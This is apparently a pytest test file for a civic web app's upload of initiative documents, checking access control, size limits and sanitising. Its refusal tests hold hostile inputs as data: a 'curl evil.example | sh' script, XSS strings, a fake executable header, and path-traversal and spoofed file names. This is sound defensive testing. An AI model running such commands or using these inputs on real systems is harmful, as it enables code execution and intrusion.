"""Documents of initiatives: attached by members, downloaded by readers, hostile files refused."""

import io
import re

import pytest
from sqlalchemy import func, select
from werkzeug.test import encode_multipart

from civicapp.db import utcnow
from civicapp.exceptions import DomainError, NotAllowed
from civicapp.extensions import db
from civicapp.initiatives import timeline
from civicapp.initiatives.documents import (
    DocumentDraft,
    DocumentKind,
    InitiativeDocument,
    attach_document,
)
from civicapp.initiatives.models import EventKind, Status
from civicapp.organisations.models import MemberRole, Membership
from civicapp.uploads import samples
from civicapp.uploads.models import Upload
from civicapp.uploads.services import stored_file
from civicapp.uploads.storage import STORED_NAME, uploads_root
from tests.uploads.conftest import file_storage, stored_files


@pytest.fixture
def setting(make_user, make_municipality, make_organisation, make_initiative):
    """A member of the lead organisation and its published initiative."""
    town = make_municipality()
    member = make_user()
    organisation = make_organisation(admin=member, municipalities=[town])
    initiative = make_initiative(organisation, member, [town], status=Status.PUBLISHED)
    return member, initiative


@pytest.fixture
def visitor(app):
    """A second browser, never signed in."""
    other = app.test_client()
    other.set_cookie("civicapp_locale", "en", domain="civicapp.test")
    return other


def _form(data: bytes = b"", name: str = "memorandum.pdf", **fields) -> dict:
    values = {"title": "Memorandum with the municipality", "kind": "memorandum", "attach_to": ""}
    return values | {"file": (io.BytesIO(data or samples.pdf()), name)} | fields


def _attach(member, initiative, data: bytes, name: str, kind=DocumentKind.REPORT, **records):
    draft = DocumentDraft("Annual report", kind)
    return attach_document(member, initiative, draft, file_storage(data, name), **records)


def _count(model) -> int:
    db.session.expire_all()
    return db.session.scalar(select(func.count()).select_from(model))


def _post_file(client, initiative, data: bytes, name: str, **fields):
    """Post the form encoded here, in memory: a large body would otherwise be spooled to a
    temporary file the test client leaves open, and the name goes exactly as given."""
    values = _form(file=file_storage(data, name), csrf_token=client.csrf_token(), **fields)
    boundary, body = encode_multipart(values)
    return client.post(
        f"/initiatives/{initiative.id}/documents/new",
        data=body,
        content_type=f"multipart/form-data; boundary={boundary}",
        csrf=False,
    )


def _fetch(client, upload):
    with client.get(f"/files/{upload.id}/{upload.original_name}") as response:
        response.get_data()
    return response


def test_a_member_attaches_a_pdf_that_visitors_list_and_download(client, login, setting, visitor):
    member, initiative = setting
    login(member)
    response = client.post(f"/initiatives/{initiative.id}/documents/new", data=_form())
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/initiatives/{initiative.id}#documents")
    document = db.session.scalars(select(InitiativeDocument)).one()
    assert (document.kind, document.language, document.added_by_id) == (
        "memorandum",
        "en",
        member.id,
    )
    page = visitor.get(f"/initiatives/{initiative.id}").get_data(as_text=True)
    section = page.split('id="documents"')[1].split("</section>")[0]
    link = rf'<a href="/files/{document.upload_id}/memorandum.pdf" [^>]*>Memorandum with the'
    assert re.search(link, section) and "Memorandum · memorandum.pdf (PDF, 1 kB)" in section
    response = _fetch(visitor, document.upload)
    assert response.status_code == 200 and response.get_data() == samples.pdf()
    assert response.headers["Content-Disposition"].startswith(
        'attachment; filename="memorandum.pdf"'
    )
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_an_image_is_shown_as_a_thumbnail_with_its_title_as_alt_text(client, login, setting):
    member, initiative = setting
    _attach(member, initiative, samples.png(640, 480), "IMG_0042.png", DocumentKind.PHOTO)
    page = client.get(f"/initiatives/{initiative.id}").get_data(as_text=True)
    assert re.search(
        r'<img src="/files/\d+/IMG_0042.png" alt="Annual report" width="320" height="240"', page
    )


def test_a_drafts_documents_are_for_its_organisation_until_it_is_published(
    client, login, make_user, make_organisation, setting, make_initiative, visitor
):
    member, published = setting
    draft = make_initiative(published.organisation, member, published.municipalities)
    upload = _attach(member, draft, samples.pdf(), "plan.pdf").upload
    assert _fetch(visitor, upload).headers["Location"].startswith("/auth/login")
    outsider = make_user()
    make_organisation(admin=outsider)
    login(outsider)
    assert _fetch(client, upload).status_code == 403
    colleague = make_user()
    db.session.add(
        Membership(
            user_id=colleague.id, organisation_id=draft.organisation_id, role=MemberRole.MEMBER
        )
    )
    db.session.commit()
    login(colleague)
    assert _fetch(client, upload).status_code == 200  # a member who did not upload it
    draft.move_to(Status.PUBLISHED)
    db.session.commit()
    assert _fetch(visitor, upload).status_code == 200  # public with its initiative


@pytest.mark.parametrize(
    "data, name, message",
    [
        (b"<script>alert(1)</script>", "memorandum.pdf", "This file is not a real PDF."),
        (b"#!/bin/sh\ncurl evil.example | sh\n", "memorandum.pdf", "This file is not a real PDF."),
        (b"MZ\x90\x00\x03" + bytes(200), "report.docx", "This file is not a real DOCX."),
        (b"%PDF-1.4\n<html><script>alert(1)</script>", "x.pdf", "This file is not a real PDF."),
        (samples.pdf(), "memorandum.html", "Files of this type are not accepted"),
        (samples.pdf(), "old.doc", "Old Microsoft Office files (DOC, XLS, PPT) are not accepted"),
        (b"", "empty.pdf", "The file is empty."),
    ],
)
def test_a_hostile_or_wrong_file_is_refused_and_the_form_kept(
    app, client, login, setting, data, name, message
):
    member, initiative = setting
    login(member)
    before = stored_files(app)
    response = client.post(
        f"/initiatives/{initiative.id}/documents/new",
        data=_form(kind="report", title="Report of <b>May</b>", file=(io.BytesIO(data), name)),
    )
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert f'id="file-error">{message}' in page
    assert 'value="Report of &lt;b&gt;May&lt;/b&gt;"' in page
    assert '<option selected value="report">' in page
    assert (_count(Upload), _count(InitiativeDocument), stored_files(app)) == (0, 0, before)


def test_a_photo_must_be_an_image(client, login, setting):
    member, initiative = setting
    login(member)
    response = client.post(
        f"/initiatives/{initiative.id}/documents/new", data=_form(kind="photo", title="Workshop")
    )
    assert response.status_code == 400
    assert 'id="file-error">Only images are accepted here: PNG, JPEG, GIF or WebP.' in response.text
    assert _count(Upload) == 0


@pytest.mark.parametrize(
    "raw, shown",
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\x.pdf", "x.pdf"),
        ("invoice\u202efdp.exe.pdf", "invoicefdp.exe.pdf"),
        ("nul\x00byte.pdf", "nulbyte.pdf"),
        ("R&D 'plan' <b>.pdf", "R&D 'plan' _b_.pdf"),
    ],
)
def test_path_tricks_in_the_name_are_stored_under_a_random_name_and_shown_escaped(
    app, client, login, setting, raw, shown
):
    member, initiative = setting
    login(member)
    assert _post_file(client, initiative, samples.pdf(), raw).status_code == 302
    upload = db.session.scalars(select(Upload)).one()
    assert upload.original_name == shown
    assert STORED_NAME.match(upload.stored_name) and shown not in upload.stored_name
    assert stored_file(upload).resolve().is_relative_to(uploads_root().resolve())
    page = client.get(f"/initiatives/{initiative.id}").get_data(as_text=True)
    escaped = shown.replace("&", "&amp;").replace("'", "&#39;")
    assert f"· {escaped} (PDF, 1 kB)" in page and "\u202e" not in page


def test_a_file_over_the_configured_limit_is_refused_with_a_clear_message(
    app, client, login, setting
):
    member, initiative = setting
    login(member)
    limit = app.config["UPLOAD_MAX_BYTES"]
    big = samples.pdf() + b" " * (limit - len(samples.pdf()) + 1)
    response = _post_file(client, initiative, big, "big.pdf", title="Huge")
    assert response.status_code == 400
    assert 'id="file-error">The file is larger than 10 MB.' in response.text
    assert 'value="Huge"' in response.text and _count(Upload) == 0


def test_a_request_over_the_request_limit_gets_the_413_page(
    app, client, login, setting, monkeypatch
):
    member, initiative = setting
    login(member)
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 8 * 1024)
    response = client.post(
        f"/initiatives/{initiative.id}/documents/new", data=_form(samples.pdf() + bytes(9000))
    )
    assert response.status_code == 413 and "<h1>Too large</h1>" in response.text
    assert _count(Upload) == 0


def test_outsiders_cannot_add_or_remove_documents(
    client, login, make_user, make_organisation, setting, visitor
):
    member, initiative = setting
    document = _attach(member, initiative, samples.pdf(), "report.pdf")
    remove = f"/initiatives/{initiative.id}/documents/{document.id}/remove"
    add = f"/initiatives/{initiative.id}/documents/new"
    assert visitor.post(remove, data={"csrf_token": visitor.csrf_token()}).status_code == 302
    outsider = make_user()
    make_organisation(admin=outsider)
    login(outsider)
    assert client.get(add).status_code == 403
    assert client.post(add, data=_form()).status_code == 403
    assert client.post(remove).status_code == 403
    assert _count(InitiativeDocument) == 1 and stored_file(document.upload).is_file()


def test_removing_a_document_deletes_its_file(app, client, login, setting):
    member, initiative = setting
    document = _attach(member, initiative, samples.docx(), "plan.docx")
    path = stored_file(document.upload)
    assert path.is_file()
    login(member)
    response = client.post(
        f"/initiatives/{initiative.id}/documents/{document.id}/remove?back=manage"
    )
    assert response.headers["Location"].endswith(f"/initiatives/{initiative.id}/manage#documents")
    assert not path.exists() and (_count(InitiativeDocument), _count(Upload)) == (0, 0)


def test_documents_of_an_update_show_with_it_and_go_with_it(client, login, setting):
    member, initiative = setting
    update = timeline.save_update(
        member, initiative, None, "Kick-off", "Started.", initiative.start_date
    )
    login(member)
    response = client.post(
        f"/initiatives/{initiative.id}/documents/new?to=update:{update.id}",
        data=_form(title="Signed agenda", kind="agenda") | {"attach_to": f"update:{update.id}"},
    )
    assert response.headers["Location"].endswith(f"#update-{update.id}")
    page = client.get(f"/initiatives/{initiative.id}").get_data(as_text=True)
    article = page.split(f'id="update-{update.id}"')[1].split("</article>")[0]
    assert "Signed agenda" in article
    edit_page = client.get(f"/initiatives/{initiative.id}/updates/{update.id}/edit").text
    assert "Signed agenda" in edit_page and f"/documents/new?to=update:{update.id}" in edit_page
    path = stored_file(db.session.scalars(select(Upload)).one())
    client.post(f"/initiatives/{initiative.id}/updates/{update.id}/delete")
    assert not path.exists() and _count(InitiativeDocument) == 0


def test_the_forms_offer_the_timeline_and_preselect_a_record(client, login, setting):
    member, initiative = setting
    update = timeline.save_update(
        member, initiative, None, "Kick-off", "Started.", initiative.start_date
    )
    login(member)
    page = client.get(f"/initiatives/{initiative.id}/documents/new?to=update:{update.id}").text
    assert 'enctype="multipart/form-data"' in page and 'accept=".pdf,' in page
    assert f'<option selected value="update:{update.id}">Update: Kick-off' in page
    manage = client.get(f"/initiatives/{initiative.id}/manage").text
    form = f'action="/initiatives/{initiative.id}/documents/new?back=manage" enctype="multipart'
    assert form in manage and '<option selected value="other">' in manage


def test_a_document_belongs_to_one_record_of_its_own_initiative(setting, make_initiative):
    member, initiative = setting
    other = make_initiative(initiative.organisation, member, initiative.municipalities)
    update = timeline.save_update(member, other, None, "Elsewhere", "x", other.start_date)
    with pytest.raises(NotAllowed):
        _attach(member, initiative, samples.pdf(), "x.pdf", update=update)
    mine = timeline.save_update(member, initiative, None, "Here", "x", initiative.start_date)
    starts = utcnow()
    workshop = timeline.EventDraft(EventKind.WORKSHOP, "Workshop", starts, starts, place="Hall")
    event = timeline.save_event(member, initiative, None, workshop)
    with pytest.raises(DomainError) as refused:
        _attach(member, initiative, samples.pdf(), "x.pdf", update=mine, event=event)
    assert type(refused.value) is DomainError  # not both, though both are its own
    assert _count(Upload) == 0
